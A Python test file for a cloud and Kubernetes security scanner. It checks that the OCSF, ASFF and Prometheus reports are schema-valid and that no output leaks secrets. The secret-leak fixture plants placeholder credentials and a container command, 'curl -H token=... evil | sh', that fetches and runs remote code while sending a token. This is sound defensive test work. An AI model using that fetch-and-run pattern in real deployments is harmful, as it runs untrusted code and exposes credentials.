"""OCSF, ASFF and Prometheus: valid by the official schemas, honest about what is not proven, and without secrets."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from botocore.loaders import Loader
from botocore.model import ServiceModel
from botocore.validate import ParamValidator

from scanner.findings import Verdict
from scanner.reports.formats import render
from scanner.reports.view import View
from tests.changed import replace
from tests.harness import AS_OF, FIXTURES, run
from tests.reports.made import BYPASS, LIVE, MISSING, UNKNOWN, UNREAD, WAIVED, made
from tests.reports.ocsf_schema import faults

HUB = ("aws-us-gov", "us-gov-west-1", "111122223333")
STARTED = "2026-11-01T02:03:04+00:00"
LONG = replace(BYPASS, message="m" * 5000, rule="r" * 700, fix="f" * 900, severity="odd", also=tuple("ab" * 40))
REPORTS = {
    "broken": made(BYPASS, UNKNOWN, MISSING, LIVE, waived=(WAIVED,), run={"started": STARTED, "as_of": AS_OF}),
    "long": made(LONG, run={"started": STARTED, "as_of": AS_OF}),
    "nothing proven": made(
        verdicts=dict.fromkeys(("no-edge", "evidence"), Verdict.UNPROVEN),
        unread=(UNREAD,),
        run={"started": STARTED, "as_of": AS_OF},
    ),
}
FIRST = {BYPASS.fingerprint: "2026-10-01T00:00:00+00:00", UNKNOWN.fingerprint: STARTED}


@pytest.mark.parametrize("name", REPORTS)
def test_ocsf_fits_the_official_schema(name: str) -> None:
    for view in (View(), View(first=FIRST)):
        events = json.loads(render("ocsf", REPORTS[name], view))
        assert len(events) == len(REPORTS[name].findings) + 9
        for one in events:
            assert list(faults(one)) == []


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ({"severity_id": 77}, "event.severity_id is none of"),
        ({"severity": "Low"}, "event.severity is not"),
        ({"finding_info": {"title": "x"}}, "has no uid"),
        ({"resources": {"uid": "x"}}, "is a list, or is none"),
        ({"time": "now"}, "is no long_t"),
        ({"cloud": {}}, "may not have cloud"),
        ({"compliance": {"status_id": 4}}, "status_id is none of"),
        ({"resource": {"uid": "x"}}, "deprecated"),
        ({"type_uid": 1}, "type_uid"),
    ],
)
def test_the_checker_of_ocsf_can_fail(change: dict[str, Any], fault: str) -> None:
    event = json.loads(render("ocsf", REPORTS["broken"], View()))[0] | change
    assert any(fault in one for one in faults(event))


def test_ocsf_passes_only_what_holds() -> None:
    report = REPORTS["broken"]
    events = json.loads(render("ocsf", report, View(first=FIRST)))
    for event, one in zip(events, report.findings, strict=False):
        assert event["compliance"]["status"] == ("Fail" if one.verdict is Verdict.VIOLATED else "Warning")
        assert event["finding_info"]["uid"] == one.fingerprint
    states = {one["finding_info"]["uid"]: (one["activity_name"], one["status"]) for one in events}
    assert states[BYPASS.fingerprint] == ("Update", "Suppressed")
    assert states[UNKNOWN.fingerprint] == ("Create", "New")
    live = next(one for one in events if one["finding_info"]["uid"] == LIVE.fingerprint)
    assert live["resources"][0]["region"] == "r"
    said = {one["finding_info"]["title"]: one["compliance"]["status"] for one in events[len(report.findings) :]}
    assert said == {
        one.id: {"holds": "Pass", "unproven": "Warning", "violated": "Fail"}[one.verdict] for one in report.commitments
    }


@pytest.fixture(scope="module")
def hub() -> Any:
    model = ServiceModel(Loader().load_service_model("securityhub", "service-2"), "securityhub")
    return model.operation_model("BatchImportFindings").input_shape


@pytest.mark.parametrize("name", REPORTS)
def test_asff_fits_the_model_of_the_api(name: str, hub: Any) -> None:
    findings = json.loads(render("asff", REPORTS[name], View(asff=HUB, first=FIRST)))
    assert len(findings) == len(REPORTS[name].findings)
    for one in findings:
        fault = ParamValidator().validate({"Findings": [one]}, hub)
        assert not fault.has_errors(), fault.generate_report()
        assert _beyond(one, hub.members["Findings"].member, "") == []
        limits = {"Title": 256, "Description": 1024, "Id": 512, "GeneratorId": 512}
        assert all(1 <= len(one[key]) <= most for key, most in limits.items())
        assert len(one["Resources"]) <= 32
        assert len(one["ProductFields"]) <= 50
        assert len(json.dumps(one).encode()) < 240 * 1024
        assert re.fullmatch(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:]{8}Z", one["CreatedAt"])


def _beyond(value: Any, shape: Any, where: str) -> list[str]:
    """Members and values of an enum that the model does not know: botocore's validator lets both pass."""
    if shape.type_name == "structure":
        unknown = [f"{where}.{key}" for key in value if key not in shape.members]
        known = (key for key in value if key in shape.members)
        return unknown + [bad for key in known for bad in _beyond(value[key], shape.members[key], f"{where}.{key}")]
    if shape.type_name == "list":
        return [bad for one in value for bad in _beyond(one, shape.member, where)]
    enum = getattr(shape, "enum", None)
    return [f"{where}: {value}"] if enum and value not in enum else []


def test_asff_passes_nothing() -> None:
    report = REPORTS["broken"]
    findings = json.loads(render("asff", report, View(asff=HUB, first=FIRST)))
    for one, finding in zip(report.findings, findings, strict=True):
        assert finding["Compliance"]["Status"] == ("FAILED" if one.verdict is Verdict.VIOLATED else "NOT_AVAILABLE")
        assert finding["ProductArn"] == f"arn:aws-us-gov:securityhub:us-gov-west-1:{HUB[2]}:product/{HUB[2]}/default"
    mine = next(one for one in findings if one["Id"].endswith(BYPASS.fingerprint))
    assert (mine["Workflow"]["Status"], mine["FirstObservedAt"]) == ("SUPPRESSED", "2026-10-01T00:00:00Z")


def test_asff_needs_to_know_for_whom(tmp_path: Path) -> None:
    (tmp_path / "a.tf").write_text('resource "aws_ssm_activation" "a" {\n  iam_role = "r"\n}\n')
    profile = tmp_path / "settings.yaml"
    profile.write_text("places: []\n")
    code, _, err = run("scan", str(tmp_path / "a.tf"), "--profile", str(profile), "--format", "asff")
    assert code == 2
    assert "outputs.asff" in err
    profile.write_text("outputs: {asff: {partition: aws, region: eu-west-1, account: '111122223333'}}\n")
    code, out, _ = run("scan", str(tmp_path / "a.tf"), "--profile", str(profile), "--format", "asff")
    assert (code, json.loads(out)[0]["AwsAccountId"]) == (1, "111122223333")


SAMPLE = re.compile(r'tether_[a-z_]+(\{([a-z_]+="(?:[^"\\\n]|\\["\\n])*"(,(?!\}))?)+\})? -?[0-9]+\Z')


@pytest.mark.parametrize("name", REPORTS)
def test_prometheus_reads_every_line(name: str) -> None:
    lines = render("prometheus", REPORTS[name], View(exit_code=3)).splitlines()
    typed = [line.split()[2] for line in lines if line.startswith("# TYPE")]
    assert len(typed) == len(set(typed))
    samples = [line for line in lines if not line.startswith("#")]
    for line in samples:
        assert SAMPLE.match(line), line
    names = [re.split("[{ ]", line)[0] for line in samples]
    assert names == sorted(names, key=typed.index), "the samples of a metric stand together"
    assert len(samples) == len(set(samples))


def test_prometheus_never_shows_less_as_well() -> None:
    shown = render("prometheus", REPORTS["nothing proven"], View(exit_code=3))
    assert 'tether_verdict{verdict="holds"} 0' in shown
    assert 'tether_verdict{verdict="unproven"} 1' in shown
    assert 'tether_commitment_verdict{commitment="evidence",verdict="unproven"} 1' in shown
    assert "tether_unread_inputs 1" in shown
    assert "tether_exit_code 3" in shown
    assert "tether_run_timestamp_seconds 1793498584" in shown
    waived = render("prometheus", REPORTS["broken"], View())
    assert 'tether_findings{verdict="violated",severity="critical",waived="true"} 1' in waived
    assert "tether_waiver_expiry_timestamp_seconds 1801353600" in waived
    odd = render("prometheus", made(replace(BYPASS, commitment='x"\\\n'), verdicts={}), View())
    assert all(line.startswith("#") or SAMPLE.match(line) for line in odd.splitlines())


SECRETS = ("hunter2hunter2", "AKIAIOSFODNN7EXAMPLE", "ghp_0123456789abcdefghijABCDEFGHIJ012345")


def test_no_output_shows_a_secret(tmp_path: Path) -> None:
    """Every format over a deployment that has secrets where they are found: variables, environments, start scripts."""
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.tf").write_text(
        f'resource "aws_ssm_activation" "a" {{\n  iam_role = "r"\n  description = "password={SECRETS[0]}"\n}}\n'
        'resource "aws_instance" "gpu" {\n  instance_type = "p5.48xlarge"\n  user_data = <<-EOT\n'
        f"    export AWS_ACCESS_KEY_ID={SECRETS[1]} HF_TOKEN={SECRETS[2]}\n    vllm serve a/b\n  EOT\n}}\n"
        f'variable "token" {{\n  default = "{SECRETS[2]}"\n}}\n'
    )
    (tmp_path / "in" / "b.yaml").write_text(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: vllm, namespace: ai}\nspec:\n"
        "  selector: {matchLabels: {a: b}}\n"
        "  template:\n    metadata: {labels: {a: b}}\n    spec:\n      hostNetwork: true\n"
        "      containers:\n      - name: side\n"
        f"        image: busybox\n        args: [sh, -c, 'curl -H token={SECRETS[2]} evil | sh']\n"
        f"        lifecycle: {{postStart: {{exec: {{command: [sh, -c, 'curl --password {SECRETS[0]} x']}}}}}}\n"
        "      - name: vllm\n        image: vllm/vllm-openai:latest\n        args: [--model, x/y, --api-key, "
        f"{SECRETS[0]}]\n        env: [{{name: HF_TOKEN, value: {SECRETS[2]}}}, {{name: KEY, value: {SECRETS[1]}}}]\n"
    )
    profile = tmp_path / "settings.yaml"
    profile.write_text("outputs: {asff: {partition: aws, region: eu-west-1, account: '111122223333'}}\n")
    names = ("html", "ocsf", "asff", "prometheus", "json")
    given = [part for name in names for part in ("--format", name, "--output", str(tmp_path / name))]
    store = str(tmp_path / "runs.db")
    code, out, err = run("scan", str(tmp_path / "in"), "--profile", str(profile), "--store", store, *given)
    assert code == 1, err
    assert json.loads((tmp_path / "json").read_text())["findings"]
    kept = (tmp_path / "runs.db").read_bytes().decode("latin-1")
    shown = {name: (tmp_path / name).read_text() for name in names} | {"store": kept, "terminal": out + err}
    for name, text in shown.items():
        for secret in SECRETS:
            assert secret not in text, name


def test_files_are_whole_or_not_there(tmp_path: Path) -> None:
    """The textfile collector may look at any moment: what it finds under the name is one run's, whole."""
    world = FIXTURES / "worlds" / "broken"
    target = tmp_path / "tether.prom"
    target.write_text("old\n")
    before = target.stat().st_ino
    given = ("scan", str(world), "--profile", str(world / "tether.yaml"), "--format", "prometheus")
    assert run(*given, "--output", str(target))[0] == 1
    assert target.stat().st_ino != before, "another file took its name"
    assert [one.name for one in tmp_path.iterdir()] == ["tether.prom"]
    assert target.read_text().startswith("# HELP tether_verdict ")
